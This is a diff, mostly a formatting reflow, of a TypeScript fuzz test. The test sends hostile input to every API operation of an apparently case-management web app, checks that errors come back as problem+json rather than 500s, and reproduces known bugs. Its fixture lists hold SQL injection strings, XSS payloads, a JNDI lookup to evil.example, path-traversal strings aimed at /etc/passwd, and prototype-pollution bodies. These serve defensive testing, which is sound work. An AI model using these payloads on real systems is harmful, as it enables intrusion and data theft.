@@ -28,12 +28,19 @@ import { createContext } from '../../src/app/create-context.ts';
 import { DEMO_PASSWORD, DEMO_USERS } from '../../src/app/demo-data.ts';
 import { ROLES, type Role } from '../../src/app/roles.ts';
 import { createUser } from '../../src/app/users.ts';
-import { expectedAnswer, OPERATIONS, operationName, type Fixture, type Operation, type OperationRequest } from '../../src/http/operations.ts';
+import {
+  expectedAnswer,
+  type Fixture,
+  OPERATIONS,
+  type Operation,
+  type OperationRequest,
+  operationName,
+} from '../../src/http/operations.ts';
 import { HTTP_CODES } from '../../src/http/problems.ts';
 import { buildServer } from '../../src/http/server.ts';
 import { JOBS } from '../../src/jobs/registry.ts';
-import { createTestDatabase, type TestDatabase } from '../support/database.ts';
 import { signedIn } from '../support/api.ts';
+import { createTestDatabase, type TestDatabase } from '../support/database.ts';
 import { learnerWithPdc } from '../support/learner.ts';
 import { changedTables, fingerprint, MATRIX_USERS, seedFixture, sessionCookie, watchChanges } from '../support/operation-fixture.ts';
 import { TEST_TODAY } from '../support/server.ts';
@@ -81,7 +88,14 @@ class Encoded {
   constructor(readonly text: string) {}
 }
 
-const HUGE = ['A'.repeat(100_000), '𝄞'.repeat(50_000), ' '.repeat(100_000), 'é'.repeat(100_000), 'a\u0000'.repeat(50_000), '\u202E'.repeat(100_000)];
+const HUGE = [
+  'A'.repeat(100_000),
+  '𝄞'.repeat(50_000),
+  ' '.repeat(100_000),
+  'é'.repeat(100_000),
+  'a\u0000'.repeat(50_000),
+  '\u202E'.repeat(100_000),
+];
 const UNICODE = [
   '👩‍👩‍👧‍👦',
   '🙂🙂🙂',
@@ -111,10 +125,11 @@ const UNICODE = [
 const INJECTION = [
   "'; drop table persons; --",
   "' OR '1'='1",
-  "1); select pg_sleep(5); --",
+  '1); select pg_sleep(5); --',
   "x' union select password_hash from users --",
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JNDI lookup string is the hostile input itself
   '${jndi:ldap://evil.example/a}',
   '../../etc/passwd',
   '..\\..\\windows\\win.ini',
@@ -192,11 +207,58 @@ const DATES = [
   '2026-06-16',
   '2099-12-31',
 ];
-const IDS = ['not-a-uuid', '00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', '1', '-1', '0', 'null', '{}', '%', ' ', 'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz'];
-const NUMBERS: unknown[] = [-1, 0, 1.5, -0, 2_147_483_647, 2_147_483_648, -2_147_483_649, Number.MAX_SAFE_INTEGER, Number.MAX_SAFE_INTEGER + 2, 1e308, Number.MIN_VALUE];
-const RAW_NUMBERS = ['1e309', '-1e309', '99999999999999999999', '1.0', '1e2', '-0', '0.1e1', '1E400', '123456789012345678901234567890'].map((t) => new Raw(t));
-const KEYS = ['active', 'version', 'roles', 'isAdmin', 'id', 'ownerId', 'createdBy', 'status', '__proto__', 'constructor', 'prototype', 'toString', '', 'k'.repeat(10_000), '👩‍👩‍👧‍👦', 'a\u0000b', '$where', 'extra'];
-const BOUNDARY = [0, 1, 49, 50, 51, 60, 61, 99, 100, 101, 200, 201, 254, 255, 500, 501, 1000, 1001, 2000, 2001, 5000, 5001].map((n) => 'x'.repeat(n));
+const IDS = [
+  'not-a-uuid',
+  '00000000-0000-0000-0000-000000000000',
+  'ffffffff-ffff-ffff-ffff-ffffffffffff',
+  '1',
+  '-1',
+  '0',
+  'null',
+  '{}',
+  '%',
+  ' ',
+  'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
+];
+const NUMBERS: unknown[] = [
+  -1,
+  0,
+  1.5,
+  -0,
+  2_147_483_647,
+  2_147_483_648,
+  -2_147_483_649,
+  Number.MAX_SAFE_INTEGER,
+  Number.MAX_SAFE_INTEGER + 2,
+  1e308,
+  Number.MIN_VALUE,
+];
+const RAW_NUMBERS = ['1e309', '-1e309', '99999999999999999999', '1.0', '1e2', '-0', '0.1e1', '1E400', '123456789012345678901234567890'].map(
+  (t) => new Raw(t),
+);
+const KEYS = [
+  'active',
+  'version',
+  'roles',
+  'isAdmin',
+  'id',
+  'ownerId',
+  'createdBy',
+  'status',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  '',
+  'k'.repeat(10_000),
+  '👩‍👩‍👧‍👦',
+  'a\u0000b',
+  '$where',
+  'extra',
+];
+const BOUNDARY = [0, 1, 49, 50, 51, 60, 61, 99, 100, 101, 200, 201, 254, 255, 500, 501, 1000, 1001, 2000, 2001, 5000, 5001].map((n) =>
+  'x'.repeat(n),
+);
 
 const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => `a${String.fromCharCode(c)}b`);
 const hostileString = fc.oneof(
@@ -228,13 +290,24 @@ function valueFor(base: unknown): fc.Arbitrary<unknown> {
   if (typeof base === 'string') {
     if (/^\d{4}-\d{2}-\d{2}$/.test(base)) themed.push(fc.constantFrom(...DATES));
     if (/^-?\d+\.\d{2}$/.test(base)) themed.push(fc.constantFrom(...AMOUNTS));
-    if (/^[0-9a-f-]{36}$/.test(base)) themed.push(fc.constantFrom(...IDS, base.toUpperCase(), `${base} `, `${base}\u0000`, base.slice(0, 35)), fc.uuid());
+    if (/^[0-9a-f-]{36}$/.test(base))
+      themed.push(fc.constantFrom(...IDS, base.toUpperCase(), `${base} `, `${base}\u0000`, base.slice(0, 35)), fc.uuid());
     themed.push(fc.constantFrom(`${base}\u0000`, ` ${base} `, base.toUpperCase(), `${base}${'x'.repeat(300)}`));
   }
-  if (typeof base === 'number') themed.push(fc.constantFrom(...NUMBERS), fc.constantFrom(...RAW_NUMBERS), fc.constantFrom(String(base), `${base}`));
-  if (Array.isArray(base)) themed.push(fc.constantFrom<unknown>([], [null], Array(100).fill(base[0] ?? 'x'), [base], {}), fc.array(hostileString, { maxLength: 25 }));
-  if (base !== null && typeof base === 'object' && !Array.isArray(base)) themed.push(fc.constantFrom<unknown>([], [base], 'object', Object.values(base as object)));
-  return fc.oneof(...themed.map((arbitrary) => ({ arbitrary, weight: 3 })), { arbitrary: hostileString, weight: 2 }, { arbitrary: wrongType, weight: 2 });
+  if (typeof base === 'number')
+    themed.push(fc.constantFrom(...NUMBERS), fc.constantFrom(...RAW_NUMBERS), fc.constantFrom(String(base), `${base}`));
+  if (Array.isArray(base))
+    themed.push(
+      fc.constantFrom<unknown>([], [null], Array(100).fill(base[0] ?? 'x'), [base], {}),
+      fc.array(hostileString, { maxLength: 25 }),
+    );
+  if (base !== null && typeof base === 'object' && !Array.isArray(base))
+    themed.push(fc.constantFrom<unknown>([], [base], 'object', Object.values(base as object)));
+  return fc.oneof(
+    ...themed.map((arbitrary) => ({ arbitrary, weight: 3 })),
+    { arbitrary: hostileString, weight: 2 },
+    { arbitrary: wrongType, weight: 2 },
+  );
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -285,18 +358,62 @@ function deleteAt(root: unknown, path: Path): void {
 
 const label = (value: unknown): string => {
   if (value instanceof Raw || value instanceof Encoded) return `raw ${value.text.slice(0, 40)}`;
-  const text = typeof value === 'string' ? JSON.stringify(value) : JSON.stringify(value) ?? String(value);
+  const text = typeof value === 'string' ? JSON.stringify(value) : (JSON.stringify(value) ?? String(value));
   return text.length > 60 ? `${text.slice(0, 60)}...(${text.length} chars)` : text;
 };
 
-const WHOLE_BODIES: unknown[] = [[], [{}], 'a string', 123, null, true, new Raw('{"a":'), new Raw('{'), new Raw('{"version":1,"version":"2"}'), new Raw('\u0000'), new Raw(`${'['.repeat(5000)}${']'.repeat(5000)}`), new Raw('{"__proto__":{"isAdmin":true}}'), new Raw('{"constructor":{"prototype":{"isAdmin":true}}}'), new Raw('"\\ud800"'), new Raw('[1,2,'), new Raw('NaN'), new Raw('1e309'), new Raw(' '), new Raw('\uFEFF{}')];
-const CONTENT_TYPES = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16', 'application/xml', 'application/json, text/plain', 'application/jsonx', 'application/json; charset=latin1'];
+const WHOLE_BODIES: unknown[] = [
+  [],
+  [{}],
+  'a string',
+  123,
+  null,
+  true,
+  new Raw('{"a":'),
+  new Raw('{'),
+  new Raw('{"version":1,"version":"2"}'),
+  new Raw('\u0000'),
+  new Raw(`${'['.repeat(5000)}${']'.repeat(5000)}`),
+  new Raw('{"__proto__":{"isAdmin":true}}'),
+  new Raw('{"constructor":{"prototype":{"isAdmin":true}}}'),
+  new Raw('"\\ud800"'),
+  new Raw('[1,2,'),
+  new Raw('NaN'),
+  new Raw('1e309'),
+  new Raw(' '),
+  new Raw('\uFEFF{}'),
+];
+const CONTENT_TYPES = [
+  'text/plain',
+  'application/x-www-form-urlencoded',
+  'multipart/form-data; boundary=x',
+  'application/json; charset=utf-16',
+  'application/xml',
+  'application/json, text/plain',
+  'application/jsonx',
+  'application/json; charset=latin1',
+];
 const COOKIES = ['', 'x', 'A'.repeat(4000), "'; drop table sessions; --", '%00', 'null', 'undefined', '🙂', '../../etc/passwd'];
-const PARAM_RAW = ['%ZZ', '%', '%ED%A0%80', '..%2F..%2Fetc%2Fpasswd', '%00', '%2e%2e', 'a%2Fb', '%C0%AF', '%F0%9F%99%82', '%E2%80%AE', `${'%41'.repeat(200)}`].map((t) => new Encoded(t));
+const PARAM_RAW = [
+  '%ZZ',
+  '%',
+  '%ED%A0%80',
+  '..%2F..%2Fetc%2Fpasswd',
+  '%00',
+  '%2e%2e',
+  'a%2Fb',
+  '%C0%AF',
+  '%F0%9F%99%82',
+  '%E2%80%AE',
+  `${'%41'.repeat(200)}`,
+].map((t) => new Encoded(t));
 
 function mutationsFor(base: Hostile): fc.Arbitrary<Mutation> {
   const bodySlots = slots(base.body);
-  const objectSlots: Path[] = [[], ...bodySlots.filter((s) => s.value !== null && typeof s.value === 'object' && !Array.isArray(s.value)).map((s) => s.path)];
+  const objectSlots: Path[] = [
+    [],
+    ...bodySlots.filter((s) => s.value !== null && typeof s.value === 'object' && !Array.isArray(s.value)).map((s) => s.path),
+  ];
   const choices: { arbitrary: fc.Arbitrary<Mutation>; weight: number }[] = [];
   if (bodySlots.length) {
     const setField = fc.constantFrom(...bodySlots).chain((slot) =>
@@ -311,18 +428,23 @@ function mutationsFor(base: Hostile): fc.Arbitrary<Mutation> {
     });
     choices.push({ arbitrary: setField, weight: 10 }, { arbitrary: removeField, weight: 3 });
   }
-  const extraField = fc.tuple(fc.constantFrom(...objectSlots), fc.constantFrom(...KEYS), fc.oneof(hostileString, wrongType)).map<Mutation>(([path, key, value]) => (h) => {
-    const plain = (node: unknown): node is Record<string, unknown> => node !== null && typeof node === 'object' && !Array.isArray(node) && !(node instanceof Raw);
-    if (!plain(h.body)) h.body = {};
-    const target = path.reduce<any>((node, k) => node?.[k], h.body);
-    // An own property (even "__proto__" or "constructor"), on plain objects only.
-    if (plain(target)) Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true });
-    h.mutations.push(`body.${[...path, key].join('.').slice(0, 60)} added = ${label(value)}`);
-  });
-  const wholeBody = fc.constantFrom(...WHOLE_BODIES, ...(base.body === undefined ? [] : [[base.body], { body: base.body }])).map<Mutation>((value) => (h) => {
-    h.body = value instanceof Raw ? value : clone(value);
-    h.mutations.push(`body = ${label(value)}`);
-  });
+  const extraField = fc
+    .tuple(fc.constantFrom(...objectSlots), fc.constantFrom(...KEYS), fc.oneof(hostileString, wrongType))
+    .map<Mutation>(([path, key, value]) => (h) => {
+      const plain = (node: unknown): node is Record<string, unknown> =>
+        node !== null && typeof node === 'object' && !Array.isArray(node) && !(node instanceof Raw);
+      if (!plain(h.body)) h.body = {};
+      const target = path.reduce<any>((node, k) => node?.[k], h.body);
+      // An own property (even "__proto__" or "constructor"), on plain objects only.
+      if (plain(target)) Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true });
+      h.mutations.push(`body.${[...path, key].join('.').slice(0, 60)} added = ${label(value)}`);
+    });
+  const wholeBody = fc
+    .constantFrom(...WHOLE_BODIES, ...(base.body === undefined ? [] : [[base.body], { body: base.body }]))
+    .map<Mutation>((value) => (h) => {
+      h.body = value instanceof Raw ? value : clone(value);
+      h.mutations.push(`body = ${label(value)}`);
+    });
   const contentType = fc.constantFrom(...CONTENT_TYPES).map<Mutation>((type) => (h) => {
     h.contentType = type;
     if (h.body === undefined) h.body = {};
@@ -332,27 +454,40 @@ function mutationsFor(base: Hostile): fc.Arbitrary<Mutation> {
     h.cookie = value;
     h.mutations.push(`cookie ${label(value)}`);
   });
-  choices.push({ arbitrary: extraField, weight: 3 }, { arbitrary: wholeBody, weight: 2 }, { arbitrary: contentType, weight: 1 }, { arbitrary: cookie, weight: 1 });
+  choices.push(
+    { arbitrary: extraField, weight: 3 },
+    { arbitrary: wholeBody, weight: 2 },
+    { arbitrary: contentType, weight: 1 },
+    { arbitrary: cookie, weight: 1 },
+  );
 
   const paramNames = Object.keys(base.params);
   if (paramNames.length) {
-    const param = fc.tuple(fc.constantFrom(...paramNames), fc.oneof(valueFor(base.params[paramNames[0]!]).filter((v) => typeof v === 'string'), fc.constantFrom(...PARAM_RAW), hostileString)).map<Mutation>(
-      ([name, value]) =>
-        (h) => {
-          h.params[name] = value as string | Encoded;
-          h.mutations.push(`params.${name} = ${label(value)}`);
-        },
-    );
+    const param = fc
+      .tuple(
+        fc.constantFrom(...paramNames),
+        fc.oneof(
+          valueFor(base.params[paramNames[0]!]).filter((v) => typeof v === 'string'),
+          fc.constantFrom(...PARAM_RAW),
+          hostileString,
+        ),
+      )
+      .map<Mutation>(([name, value]) => (h) => {
+        h.params[name] = value as string | Encoded;
+        h.mutations.push(`params.${name} = ${label(value)}`);
+      });
     choices.push({ arbitrary: param, weight: 6 });
   }
   const queryNames = Object.keys(base.query);
-  const query = fc.tuple(fc.constantFrom(...queryNames, 'extra', 'q', '__proto__'), fc.oneof(hostileString, fc.array(hostileString, { minLength: 2, maxLength: 3 }), fc.constantFrom(...PARAM_RAW))).map<Mutation>(
-    ([name, value]) =>
-      (h) => {
-        h.query[name] = value;
-        h.mutations.push(`query.${name} = ${label(value)}`);
-      },
-  );
+  const query = fc
+    .tuple(
+      fc.constantFrom(...queryNames, 'extra', 'q', '__proto__'),
+      fc.oneof(hostileString, fc.array(hostileString, { minLength: 2, maxLength: 3 }), fc.constantFrom(...PARAM_RAW)),
+    )
+    .map<Mutation>(([name, value]) => (h) => {
+      h.query[name] = value;
+      h.mutations.push(`query.${name} = ${label(value)}`);
+    });
   choices.push({ arbitrary: query, weight: queryNames.length ? 6 : 1 });
   if (queryNames.length) {
     choices.push({
@@ -397,7 +532,10 @@ function encode(value: unknown): string {
   let out = '';
   for (const char of text) {
     const code = char.codePointAt(0)!;
-    if (code >= 0xd800 && code <= 0xdfff) out += [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
+    if (code >= 0xd800 && code <= 0xdfff)
+      out += [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
+        .map((b) => `%${b.toString(16).toUpperCase()}`)
+        .join('');
     else out += encodeURIComponent(char);
   }
   return out;
@@ -405,7 +543,9 @@ function encode(value: unknown): string {
 
 function urlOfHostile(op: Operation, h: Hostile): string {
   const path = op.path.replace(/:([A-Za-z_]+)/g, (_, name: string) => encode(h.params[name] ?? ''));
-  const pairs = Object.entries(h.query).flatMap(([k, v]) => (Array.isArray(v) ? v.map((item) => `${encode(k)}=${encode(item)}`) : [`${encode(k)}=${encode(v)}`]));
+  const pairs = Object.entries(h.query).flatMap(([k, v]) =>
+    Array.isArray(v) ? v.map((item) => `${encode(k)}=${encode(item)}`) : [`${encode(k)}=${encode(v)}`],
+  );
   return pairs.length ? `${path}?${pairs.join('&')}` : path;
 }
 
@@ -430,7 +570,9 @@ function hostileCaller(op: Operation): Role | null {
 /** The base of an operation's hostile requests: its valid fixture request (sign-in: a user that does not exist, so nothing can succeed). */
 function baseOf(op: Operation, fixture: Fixture, userId: string | null): Hostile {
   const request: OperationRequest =
-    operationName(op) === 'POST /api/session' ? { body: { username: 'hostile.nobody', password: 'not-the-password-1' } } : op.request(fixture, { userId });
+    operationName(op) === 'POST /api/session'
+      ? { body: { username: 'hostile.nobody', password: 'not-the-password-1' } }
+      : op.request(fixture, { userId });
   return { params: { ...(request.params ?? {}) }, query: { ...(request.query ?? {}) }, body: clone(request.body), mutations: [] };
 }
 
@@ -438,11 +580,28 @@ let server: LoggedServer;
 let fixture: Fixture;
 let watch: Awaited<ReturnType<typeof watchChanges>>;
 const cookies = new Map<Role, string>();
-const stats = { sent: 0, accepted: 0, acceptedWrites: 0, refused: 0, deferredCounts: 0, byStatus: new Map<number, number>(), acceptedBy: new Map<string, number>(), writeSamples: new Map<string, string[]>() };
+const stats = {
+  sent: 0,
+  accepted: 0,
+  acceptedWrites: 0,
+  refused: 0,
+  deferredCounts: 0,
+  byStatus: new Map<number, number>(),
+  acceptedBy: new Map<string, number>(),
+  writeSamples: new Map<string, string[]>(),
+};
 /** The whole database's fingerprint between operations (each operation's "after" is the next one's "before"). */
 let boundary: Record<string, string> | null = null;
 /** Answers that break the contract: unknown ones fail the test; known ones (KNOWN_BUGS) are counted. */
-const violations: { operation: string; status: number; mutations: string[]; url: string; problem: string; known: string | null; log: string }[] = [];
+const violations: {
+  operation: string;
+  status: number;
+  mutations: string[];
+  url: string;
+  problem: string;
+  known: string | null;
+  log: string;
+}[] = [];
 const COLLECT = process.env.HOSTILE_COLLECT === '1';
 let startedAt = Date.now();
 
@@ -480,9 +639,11 @@ function refusedBeforeHandler(response: LightMyRequestResponse): boolean {
 /** What is wrong with an answer, if anything: a 5xx, or a 4xx that is not problem+json with a code. */
 function contractProblem(response: LightMyRequestResponse): string | null {
   if (response.statusCode >= 500) return `${response.statusCode}`;
-  if ((response.statusCode === 200 || response.statusCode === 201) && response.body === '') return `${response.statusCode} with an empty body`;
+  if ((response.statusCode === 200 || response.statusCode === 201) && response.body === '')
+    return `${response.statusCode} with an empty body`;
   if (response.statusCode < 400) return null;
-  if (!/^application\/problem\+json/.test(String(response.headers['content-type']))) return `${response.statusCode} as ${response.headers['content-type']}`;
+  if (!/^application\/problem\+json/.test(String(response.headers['content-type'])))
+    return `${response.statusCode} as ${response.headers['content-type']}`;
   let code: unknown;
   try {
     code = (JSON.parse(response.body) as { code?: unknown }).code;
@@ -502,7 +663,7 @@ interface KnownBug {
   readonly matches: (response: LightMyRequestResponse, log: string, operation: string) => boolean;
 }
 
-const problemCode = (response: LightMyRequestResponse): unknown => {
+const _problemCode = (response: LightMyRequestResponse): unknown => {
   try {
     return (JSON.parse(response.body) as { code?: unknown }).code;
   } catch {
@@ -536,13 +697,25 @@ const NUL_500: readonly { operation: string; field: string; at: string }[] = [
   { operation: 'POST /api/assessments/:id/complete', field: 'body.notes', at: 'updateVersioned <- src/app/assessments.ts:89' },
   { operation: 'GET /api/audit', field: 'query.recordId', at: 'listAuditEvents src/app/audit.ts:32' },
   { operation: 'POST /api/service-plans/:id/close', field: 'body.note', at: 'updateVersioned <- src/app/service-plans/plans.ts:144' },
-  { operation: 'POST /api/service-plans/:id/items', field: 'body.description', at: 'src/app/service-plans/items.ts:61 (insert plan_items)' },
+  {
+    operation: 'POST /api/service-plans/:id/items',
+    field: 'body.description',
+    at: 'src/app/service-plans/items.ts:61 (insert plan_items)',
+  },
   { operation: 'PATCH /api/plan-items/:id', field: 'body.description', at: 'updateVersioned <- src/app/service-plans/items.ts:111' },
   { operation: 'POST /api/people/:id/interactions', field: 'body.note', at: 'src/app/interactions.ts:21 (insert interactions)' },
   { operation: 'POST /api/pdcs/:id/evidence', field: 'body.note', at: 'src/app/benefits/evidence.ts:80 (insert evidence_versions)' },
-  { operation: 'POST /api/evidence-versions/:id/correct', field: 'body.note', at: 'src/app/benefits/evidence.ts:134 (insert evidence_versions)' },
+  {
+    operation: 'POST /api/evidence-versions/:id/correct',
+    field: 'body.note',
+    at: 'src/app/benefits/evidence.ts:134 (insert evidence_versions)',
+  },
   { operation: 'POST /api/evidence/:id/change', field: 'body.note', at: 'src/app/benefits/evidence.ts:188 (insert evidence_versions)' },
-  { operation: 'POST /api/evidence-versions/:id/approval', field: 'body.reason', at: 'updateVersioned <- src/app/benefits/evidence.ts:270' },
+  {
+    operation: 'POST /api/evidence-versions/:id/approval',
+    field: 'body.reason',
+    at: 'updateVersioned <- src/app/benefits/evidence.ts:270',
+  },
 ];
 
 /** Fields where a lone surrogate gives a 500: they are written to jsonb columns (text columns store U+FFFD instead). */
@@ -551,7 +724,11 @@ const LONE_SURROGATE_500: readonly { operation: string; field: string; at: strin
   { operation: 'POST /api/people', field: 'body.address.line2', at: 'src/app/people.ts:141 (jsonb)' },
   { operation: 'POST /api/people', field: 'body.address.city', at: 'src/app/people.ts:141 (jsonb)' },
   { operation: 'POST /api/people', field: 'body.address.province', at: 'src/app/people.ts:141 (jsonb)' },
-  { operation: 'POST /api/evidence-versions/:id/approval', field: 'body.reason', at: 'recordAudit src/app/audit.ts:20 <- src/app/benefits/evidence.ts:276 (audit_events.after, jsonb)' },
+  {
+    operation: 'POST /api/evidence-versions/:id/approval',
+    field: 'body.reason',
+    at: 'recordAudit src/app/audit.ts:20 <- src/app/benefits/evidence.ts:276 (audit_events.after, jsonb)',
+  },
 ];
 
 /** The operation's valid request with one field set to `value`, sent as the hostile caller. */
@@ -590,7 +767,9 @@ describe('known bugs (smallest reproductions; it.fails while the bug is there)',
   // (src/domain/benefits/household-month.ts:52) <- ... <- previewDetermination (src/app/benefits/determinations.ts:172).
   it('a what-if rate past the largest amount (90071992547409.92) is refused with a 4xx, not a 500', async () => {
     const amount = '90071992547409.92';
-    const response = await sendWithField('POST /api/pdcs/:id/what-if', 'body.rates', { 'core-essential': { '1 adult': amount, '2 adults': amount } });
+    const response = await sendWithField('POST /api/pdcs/:id/what-if', 'body.rates', {
+      'core-essential': { '1 adult': amount, '2 adults': amount },
+    });
     expect(response.statusCode, response.body).toBeLessThan(500);
   });
 
@@ -598,7 +777,9 @@ describe('known bugs (smallest reproductions; it.fails while the bug is there)',
   // (src/domain/benefits/household-month.ts:216) <- compute (src/domain/benefits/determine.ts:85) <- computeMonths (determinations.ts:36).
   it('a what-if rate whose month cannot be added up (90071992547409.91) is refused with a 4xx, not a 500', async () => {
     const amount = '90071992547409.91';
-    const response = await sendWithField('POST /api/pdcs/:id/what-if', 'body.rates', { 'core-essential': { '1 adult': amount, '2 adults': amount } });
+    const response = await sendWithField('POST /api/pdcs/:id/what-if', 'body.rates', {
+      'core-essential': { '1 adult': amount, '2 adults': amount },
+    });
     expect(response.statusCode, response.body).toBeLessThan(500);
   });
 
@@ -618,7 +799,12 @@ describe('known bugs (smallest reproductions; it.fails while the bug is there)',
     const ada = await signedIn(server.app, 'official.ada');
     const dana = await signedIn(server.app, 'lbc.dana');
     const learner = await learnerWithPdc(ada);
-    const added = await dana.post(`/api/pdcs/${learner.pdcId}/evidence`, { type: 'child-care', amount: '90071992547409.91', periodStart: '2026-09-01', periodEnd: '2026-09-30' });
+    const added = await dana.post(`/api/pdcs/${learner.pdcId}/evidence`, {
+      type: 'child-care',
+      amount: '90071992547409.91',
+      periodStart: '2026-09-01',
+      periodEnd: '2026-09-30',
+    });
     const preview = await dana.get(`/api/pdcs/${learner.pdcId}/preview`);
     expect(added.status >= 400 || preview.status < 500, `evidence ${added.status}, preview ${preview.status}`).toBe(true);
   });
@@ -652,10 +838,18 @@ describe('known bugs (smallest reproductions; it.fails while the bug is there)',
   ] as const) {
     it(`an assessment id in capitals (${operation}) answers the changed assessment, not an empty 200`, async () => {
       const ada = await signedIn(server.app, 'official.ada');
-      const person = await ada.post('/api/people', { givenName: 'Capital', familyName: 'Letters', birthDate: '1991-05-06', acknowledgeDuplicates: true });
+      const person = await ada.post('/api/people', {
+        givenName: 'Capital',
+        familyName: 'Letters',
+        birthDate: '1991-05-06',
+        acknowledgeDuplicates: true,
+      });
       const opened = await ada.post(`/api/people/${person.body.id}/cases`, {});
       const started = await ada.post(`/api/cases/${opened.body.id}/assessments`, { needs: ['training'] });
-      const response = await ada[operation.startsWith('PATCH') ? 'patch' : 'post'](`/api/assessments/${String(started.body.id).toUpperCase()}${path}`, { version: started.body.version, ...body });
+      const response = await ada[operation.startsWith('PATCH') ? 'patch' : 'post'](
+        `/api/assessments/${String(started.body.id).toUpperCase()}${path}`,
+        { version: started.body.version, ...body },
+      );
       expect(response.status).toBe(200);
       expect(response.body).not.toBeNull();
     });
@@ -663,14 +857,22 @@ describe('known bugs (smallest reproductions; it.fails while the bug is there)',
 
   // GET /api/cases/%ZZ once answered Fastify's own JSON (FST_ERR_BAD_URL); it is now MALFORMED_URL problem+json (error-catalogue.test.ts).
   it('a malformed percent-escape in the path (GET /api/cases/%ZZ) is answered with problem+json', async () => {
-    const response = await server.app.inject({ method: 'GET', url: '/api/cases/%ZZ', cookies: { waypoint_session: cookies.get('supervisor')! } });
+    const response = await server.app.inject({
+      method: 'GET',
+      url: '/api/cases/%ZZ',
+      cookies: { waypoint_session: cookies.get('supervisor')! },
+    });
     expect(response.statusCode).toBe(400);
     expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
   });
 
   // GET /api/cases/<over-long parameter> once answered Fastify's own JSON; it is now URL_TOO_LONG problem+json.
   it('a path parameter longer than 100 characters (GET /api/cases/aaa...) is answered with problem+json', async () => {
-    const response = await server.app.inject({ method: 'GET', url: `/api/cases/${'a'.repeat(101)}`, cookies: { waypoint_session: cookies.get('supervisor')! } });
+    const response = await server.app.inject({
+      method: 'GET',
+      url: `/api/cases/${'a'.repeat(101)}`,
+      cookies: { waypoint_session: cookies.get('supervisor')! },
+    });
     expect(response.statusCode).toBeGreaterThanOrEqual(400);
     expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
   });
@@ -702,9 +904,20 @@ describe('hostile input to every operation', () => {
           const what = `${operationName(op)} with ${h.mutations.join('; ')}: ${status} ${response.body.slice(0, 300)}`;
           const problem = contractProblem(response);
           if (problem) {
-            const log = server.errors.slice(errorsBefore).map((e) => JSON.stringify(e)).join('\n');
+            const log = server.errors
+              .slice(errorsBefore)
+              .map((e) => JSON.stringify(e))
+              .join('\n');
             const known = KNOWN_BUGS.find((bug) => bug.matches(response, log, operationName(op)))?.id ?? null;
-            violations.push({ operation: operationName(op), status, mutations: h.mutations, url: urlOfHostile(op, h).slice(0, 160), problem, known, log: log.slice(0, 1500) });
+            violations.push({
+              operation: operationName(op),
+              status,
+              mutations: h.mutations,
+              url: urlOfHostile(op, h).slice(0, 160),
+              problem,
+              known,
+              log: log.slice(0, 1500),
+            });
             if (!known && !COLLECT) expect.fail(`${what}\n${problem}\n${log}`);
           }
           if (status >= 400) {
@@ -737,7 +950,10 @@ describe('hostile input to every operation', () => {
 
   afterAll(() => {
     const seconds = ((Date.now() - startedAt) / 1000).toFixed(1);
-    const statuses = [...stats.byStatus.entries()].sort(([a], [b]) => a - b).map(([s, n]) => `${s}: ${n}`).join(', ');
+    const statuses = [...stats.byStatus.entries()]
+      .sort(([a], [b]) => a - b)
+      .map(([s, n]) => `${s}: ${n}`)
+      .join(', ');
     const known = violations.filter((v) => v.known);
     console.log(
       `hostile input: ${stats.sent} requests to ${OPERATIONS.length} operations in ${seconds}s; ${stats.refused} refused (4xx/5xx, no row changed), ` +
@@ -745,14 +961,19 @@ describe('hostile input to every operation', () => {
         `contract violations: ${violations.length} (${known.length} known bugs: ${[...new Set(known.map((v) => v.known))].join(', ') || 'none'})`,
     );
     console.log(`hostile input: accepted by operation: ${JSON.stringify(Object.fromEntries(stats.acceptedBy))}`);
-    for (const [operation, samples] of stats.writeSamples) console.log(`hostile input: accepted and wrote: ${operation}: ${samples.join(' | ')}`);
+    for (const [operation, samples] of stats.writeSamples)
+      console.log(`hostile input: accepted and wrote: ${operation}: ${samples.join(' | ')}`);
     for (const bug of KNOWN_BUGS) {
       const hits = violations.filter((v) => v.known === bug.id);
-      if (hits.length) console.log(`hostile input: known bug ${bug.id}: ${hits.length} answers from ${new Set(hits.map((v) => v.operation)).size} operations, e.g. ${hits[0]!.operation} with ${hits[0]!.mutations.join('; ').slice(0, 160)}`);
+      if (hits.length)
+        console.log(
+          `hostile input: known bug ${bug.id}: ${hits.length} answers from ${new Set(hits.map((v) => v.operation)).size} operations, e.g. ${hits[0]!.operation} with ${hits[0]!.mutations.join('; ').slice(0, 160)}`,
+        );
     }
     for (const v of violations.filter((x) => !x.known)) {
-      console.log(`hostile input: UNKNOWN: ${v.operation} answered ${v.problem}\n  url: ${v.url}\n  mutations: ${v.mutations.join('; ').slice(0, 400)}\n  log: ${v.log.slice(0, 800)}`);
+      console.log(
+        `hostile input: UNKNOWN: ${v.operation} answered ${v.problem}\n  url: ${v.url}\n  mutations: ${v.mutations.join('; ').slice(0, 400)}\n  log: ${v.log.slice(0, 800)}`,
+      );
     }
   });
 });
-
